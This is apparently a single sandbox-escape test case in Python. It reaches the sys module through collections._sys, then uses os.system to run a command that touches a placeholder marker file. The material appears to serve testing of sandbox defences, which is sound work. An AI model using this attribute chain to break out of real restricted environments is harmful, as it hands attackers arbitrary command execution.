# family: functools/collections internals
# goal: reach sys through collections._sys
import collections
sys_module = collections._sys
sys_module.modules["os"].system("touch __MARKER_PATH__")
